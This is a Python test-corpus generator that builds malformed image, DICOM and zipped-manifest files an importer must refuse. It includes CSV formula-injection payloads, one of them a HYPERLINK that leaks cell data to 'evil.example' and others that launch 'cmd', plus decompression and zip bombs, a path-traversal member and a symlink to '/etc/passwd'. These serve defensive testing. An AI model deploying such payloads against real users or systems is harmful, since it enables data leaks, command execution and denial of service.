"""(Re)generate the bad-input corpus: files an importer must refuse or read correctly anyway.

Run ``python -m scripts.make_bad_corpus`` from the repository root to write
``tests/data/bad/`` for people to look at; the tests call :func:`write_corpus` into a
temporary folder instead, so they never depend on stale files. Every file is built from
code, deterministically, and stays small.

To add a case, write a builder returning the file's bytes and add ``(filename, builder)``
to :data:`CASES`.
"""

from __future__ import annotations

import argparse
import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
from PIL import Image
from pydicom.uid import JPEGBaseline8Bit

from core.cases.manifest import COLUMNS
from tests.bundles import manifest_text, row
from tests.dicom_factory import make_dicom

DEFAULT_OUT = Path("tests/data/bad")
_PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
_EXIF_ORIENTATION = 0x0112
_ROTATE_90_CW = 6
_MPEG2_MAIN = "1.2.840.10008.1.2.4.100"


def _noise(height: int, width: int, channels: int = 3) -> np.ndarray:
    """Speckle-like noise: it does not compress, so truncation cuts real image data."""
    rng = np.random.default_rng(7)
    return rng.integers(0, 256, size=(height, width, channels), dtype=np.uint8)


def _encode(img: Image.Image, fmt: str, **options: object) -> bytes:
    buf = io.BytesIO()
    img.save(buf, format=fmt, **options)
    return buf.getvalue()


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    crc = zlib.crc32(kind + payload)
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", crc)


def forged_png(width: int, height: int) -> bytes:
    """A valid PNG header (correct CRCs) declaring a huge 8-bit gray image, with no real data.

    A few hundred bytes on disk that would need ``width × height`` bytes of memory.
    """
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 4096, 9)
    return (
        _PNG_MAGIC
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def empty_file() -> bytes:
    return b""


def truncated_png() -> bytes:
    data = _encode(Image.fromarray(_noise(64, 64)), "PNG")
    return data[: len(data) // 2]


def truncated_jpeg() -> bytes:
    data = _encode(Image.fromarray(_noise(64, 64)), "JPEG", quality=90)
    return data[: len(data) // 2]


def text_renamed_png() -> bytes:
    return b"This is a text file that was renamed to .png; it holds no image.\n"


def gif_renamed_png() -> bytes:
    return _encode(Image.fromarray(_noise(40, 40)).convert("P"), "GIF")


def one_pixel_png() -> bytes:
    return _encode(Image.new("L", (1, 1), 128), "PNG")


def bomb_png() -> bytes:
    """100000 × 100000 declared: 10 gigapixels, past Pillow's own bomb limit."""
    return forged_png(100_000, 100_000)


def oversized_png() -> bytes:
    """7000 × 7000 declared (49 MP): under Pillow's limit, over this app's MAX_PIXELS."""
    return forged_png(7_000, 7_000)


def cmyk_jpeg() -> bytes:
    y, x = np.mgrid[0:48, 0:64]
    rgb = np.stack([4 * x, 5 * y, 255 - 2 * x], axis=-1).clip(0, 255).astype(np.uint8)
    return _encode(Image.fromarray(rgb).convert("CMYK"), "JPEG", quality=95)


def exif_rotated_jpeg() -> bytes:
    """64 wide × 48 high as stored; EXIF orientation 6 says display it 48 wide × 64 high."""
    y, x = np.mgrid[0:48, 0:64]
    rgb = np.stack([4 * x, 5 * y, np.full_like(x, 90)], axis=-1).astype(np.uint8)
    img = Image.fromarray(rgb)
    exif = img.getexif()
    exif[_EXIF_ORIENTATION] = _ROTATE_90_CW
    return _encode(img, "JPEG", quality=95, exif=exif)


def dicom_without_pixels() -> bytes:
    return make_dicom("MONOCHROME2", with_pixels=False, phi=False)


def dicom_multiframe() -> bytes:
    return make_dicom("MONOCHROME2", frames=3, phi=False)


def dicom_wrong_syntax() -> bytes:
    """Declares JPEG Baseline, but the pixel data is raw."""
    return make_dicom("RGB", phi=False, declared_transfer_syntax=JPEGBaseline8Bit)


def dicom_unknown_syntax() -> bytes:
    return make_dicom("MONOCHROME2", phi=False, declared_transfer_syntax="1.2.3.4.5.6.7")


def dicom_undecodable_syntax() -> bytes:
    """JPEG frames labelled MPEG2 video: a real syntax that no installed decoder reads."""
    return make_dicom(
        "MONOCHROME2",
        transfer_syntax=JPEGBaseline8Bit,
        phi=False,
        declared_transfer_syntax=_MPEG2_MAIN,
    )


def dicom_truncated() -> bytes:
    data = make_dicom("MONOCHROME2", phi=False)
    return data[: len(data) - 1500]


def dicom_without_preamble() -> bytes:
    """The dataset alone, as some tools write it: no preamble, no 'DICM', no file meta."""
    data = make_dicom("MONOCHROME2", phi=False)
    meta_length = int.from_bytes(data[140:144], "little")
    return data[144 + meta_length :]


_ZIP_DATE = (2022, 1, 1, 0, 0, 0)
"""A fixed timestamp for every zip member, so the bundles are byte-for-byte reproducible."""
ZIP_BOMB_BYTES = 20 * 2**20
"""The bomb member's unpacked size (20 MiB of zeros, about 20 KiB packed: over 1000×)."""


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=_ZIP_DATE)
            info.compress_type = method
            archive.writestr(info, data, compresslevel=9)
    return buf.getvalue()


def valid_png(shade: int = 0) -> bytes:
    """A small gradient PNG that imports fine: the manifest cases fail on the manifest alone."""
    y, x = np.mgrid[0:48, 0:64]
    rgb = np.stack([4 * x, 5 * y, np.full_like(x, shade)], axis=-1).astype(np.uint8)
    return _encode(Image.fromarray(rgb), "PNG")


def _manifest_bundle(bad_rows: list[dict[str, str]], columns: tuple[str, ...] = COLUMNS) -> bytes:
    """A valid first row (OK-001), then the bad ones: all or nothing means neither goes in."""
    rows = [row("OK-001", "ok.png"), *bad_rows]
    files = {r["gsu_file"]: valid_png(40 * i) for i, r in enumerate(rows)}
    return _zip({"manifest.csv": manifest_text(rows, columns).encode(), **files})


FORMULA_REASONS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/leak?x="&A2,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=already quoted",
    "-1.5",
)
"""Exclusion reasons a spreadsheet would run (OWASP CSV injection), and two that look alike
but are not formulas; all are valid text, imported as typed (leading whitespace trimmed)."""


def manifest_formula_injection() -> bytes:
    """Valid rows whose free text would run as formulas in a spreadsheet opening the export."""
    rows = [
        row(f"INJ-{i:03d}", f"inj{i}.png", exclusion_reason=r)
        for i, r in enumerate(FORMULA_REASONS)
    ]
    return _manifest_bundle(rows)


def zip_path_traversal() -> bytes:
    """A member that would land two folders above wherever the zip were extracted."""
    rows = [row("BAD-001", "../../x.png")]
    return _zip({"manifest.csv": manifest_text(rows).encode(), "../../x.png": valid_png()})


def zip_bomb() -> bytes:
    """The image member inflates from about 20 KiB to 20 MiB."""
    rows = [row("BAD-001", "gsu.png")]
    return _zip({"manifest.csv": manifest_text(rows).encode(), "gsu.png": bytes(ZIP_BOMB_BYTES)})


def manifest_missing_columns() -> bytes:
    return _manifest_bundle(
        [row("BAD-001", "gsu.png")], ("patient_code", "sex", "age", "height_cm", "gsu_file")
    )


def manifest_bad_dates() -> bytes:
    return _manifest_bundle([row("BAD-001", "gsu.png", us_date="2020-13-45", ct_date="31/02/2020")])


def manifest_negative_height() -> bytes:
    return _manifest_bundle([row("BAD-001", "gsu.png", height_cm="-170")])


def manifest_bad_sex() -> bytes:
    return _manifest_bundle([row("BAD-001", "gsu.png", sex="X")])


def manifest_duplicate_codes() -> bytes:
    return _manifest_bundle([row("BAD-DUP", "a.png"), row("BAD-DUP", "b.png")])


def manifest_case_duplicate_codes() -> bytes:
    """Two codes that differ only in case: one patient to a reader, so refused."""
    return _manifest_bundle([row("BAD-DUP", "a.png"), row("bad-dup", "b.png")])


def manifest_compact_dates() -> bytes:
    """ISO 8601 forms that ``date.fromisoformat`` takes but the manifest's YYYY-MM-DD does not."""
    return _manifest_bundle([row("BAD-001", "gsu.png", us_date="20200301", ct_date="2020-W10-1")])


def manifest_unclosed_quote() -> bytes:
    """A quote opened in exclusion_reason and never closed: the rest of the file becomes one
    value of 140,000 characters, past the csv module's field limit of 131,072."""
    rng = np.random.default_rng(7)
    chunk = "".join(rng.choice(list("abcdefghij klmnopqrstuvwxyz"), 1500))
    text = manifest_text([row("OK-001", "ok.png"), row("BAD-001", "gsu.png")])
    text += f'BAD-002,F,61,158,55,g2.png,,2020-03-01,,,"{(chunk * 100)[:140_000]}\n'
    return _zip({"manifest.csv": text.encode(), "ok.png": valid_png(), "gsu.png": valid_png(40)})


def _headers(data: bytes, name: str) -> tuple[int, int, int]:
    """(local header, central directory entry, packed data) offsets of a zip member."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        local, central = archive.getinfo(name).header_offset, archive.start_dir
    while struct.unpack_from("<I", data, central + 42)[0] != local:
        central = data.index(b"PK\x01\x02", central + 46)
    name_len, extra_len = struct.unpack_from("<HH", data, local + 26)
    return local, central, local + 30 + name_len + extra_len


def _damaged_member(
    edit: Callable[[bytearray, tuple[int, int, int]], None], method: int = zipfile.ZIP_DEFLATED
) -> bytes:
    """A valid two-row bundle whose row 3 image 'gsu.png' is then edited in place."""
    rows = [row("OK-001", "ok.png"), row("BAD-001", "gsu.png")]
    members = {"manifest.csv": manifest_text(rows).encode(), "ok.png": valid_png()}
    data = bytearray(_zip({**members, "gsu.png": valid_png(40)}, method))
    edit(data, _headers(bytes(data), "gsu.png"))
    return bytes(data)


def _set_flag_and_method(
    data: bytearray, offsets: tuple[int, int, int], flags: int, method: int
) -> None:
    """General-purpose flags and compression method, in both the local and central header."""
    local, central, _ = offsets
    struct.pack_into("<HH", data, local + 6, flags, method)
    struct.pack_into("<HH", data, central + 8, flags, method)


def _flip_byte(data: bytearray, offsets: tuple[int, int, int]) -> None:
    data[offsets[2] + 100] ^= 0xFF


def zip_bad_crc() -> bytes:
    """One byte of the image flipped after its CRC-32 was recorded (stored, not deflated, so
    the damage shows as a checksum mismatch only)."""
    return _damaged_member(_flip_byte, zipfile.ZIP_STORED)


def _reserved_block_type(data: bytearray, offsets: tuple[int, int, int]) -> None:
    data[offsets[2]] = 0x07  # BFINAL 1, BTYPE 11 (reserved)


def zip_corrupt_deflate() -> bytes:
    """The deflate stream starts with a reserved block type: it cannot be inflated."""
    return _damaged_member(_reserved_block_type)


def zip_encrypted_flag() -> bytes:
    """The member is flagged as encrypted (bit 0), as a password-protected zip is."""
    return _damaged_member(lambda data, at: _set_flag_and_method(data, at, 0x1, 8))


def zip_deflate64() -> bytes:
    """The member declares Deflate64 (method 9), which Python's zipfile cannot unpack."""
    return _damaged_member(lambda data, at: _set_flag_and_method(data, at, 0, 9))


def zip_symlink() -> bytes:
    """'gsu.png' is a Unix symbolic link member pointing outside the bundle."""
    rows = [row("OK-001", "ok.png"), row("BAD-001", "gsu.png")]
    data = _zip({"manifest.csv": manifest_text(rows).encode(), "ok.png": valid_png()})
    buf = io.BytesIO(data)
    with zipfile.ZipFile(buf, "a") as archive:
        link = zipfile.ZipInfo("gsu.png", date_time=_ZIP_DATE)
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "../../etc/passwd")
    return buf.getvalue()


CASES: tuple[tuple[str, Callable[[], bytes]], ...] = (
    ("empty.png", empty_file),
    ("truncated.png", truncated_png),
    ("truncated.jpg", truncated_jpeg),
    ("text_renamed.png", text_renamed_png),
    ("gif_renamed.png", gif_renamed_png),
    ("one_pixel.png", one_pixel_png),
    ("bomb_100000x100000.png", bomb_png),
    ("oversized_7000x7000.png", oversized_png),
    ("cmyk.jpg", cmyk_jpeg),
    ("exif_rotated.jpg", exif_rotated_jpeg),
    ("no_pixel_data.dcm", dicom_without_pixels),
    ("multiframe.dcm", dicom_multiframe),
    ("wrong_transfer_syntax.dcm", dicom_wrong_syntax),
    ("unknown_transfer_syntax.dcm", dicom_unknown_syntax),
    ("undecodable_transfer_syntax.dcm", dicom_undecodable_syntax),
    ("truncated.dcm", dicom_truncated),
    ("no_preamble.dcm", dicom_without_preamble),
    ("zip_path_traversal.zip", zip_path_traversal),
    ("zip_bomb.zip", zip_bomb),
    ("manifest_missing_columns.zip", manifest_missing_columns),
    ("manifest_bad_dates.zip", manifest_bad_dates),
    ("manifest_negative_height.zip", manifest_negative_height),
    ("manifest_bad_sex.zip", manifest_bad_sex),
    ("manifest_duplicate_codes.zip", manifest_duplicate_codes),
    ("manifest_case_duplicate_codes.zip", manifest_case_duplicate_codes),
    ("manifest_compact_dates.zip", manifest_compact_dates),
    ("manifest_unclosed_quote.zip", manifest_unclosed_quote),
    ("manifest_formula_injection.zip", manifest_formula_injection),
    ("zip_bad_crc.zip", zip_bad_crc),
    ("zip_corrupt_deflate.zip", zip_corrupt_deflate),
    ("zip_encrypted_flag.zip", zip_encrypted_flag),
    ("zip_deflate64.zip", zip_deflate64),
    ("zip_symlink.zip", zip_symlink),
)
"""(filename, builder): the whole corpus, in the order it is written."""


def write_corpus(out_dir: Path) -> list[Path]:
    """Write every case into ``out_dir`` (created if needed) and return the paths."""
    out_dir.mkdir(parents=True, exist_ok=True)
    paths = []
    for filename, builder in CASES:
        path = out_dir / filename
        path.write_bytes(builder())
        paths.append(path)
    return paths


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=DEFAULT_OUT, help="folder to write into")
    args = parser.parse_args(argv)
    paths = write_corpus(args.out)
    total = sum(path.stat().st_size for path in paths)
    print(f"wrote {len(paths)} files, {total:,} bytes, to {args.out}")


if __name__ == "__main__":
    main()
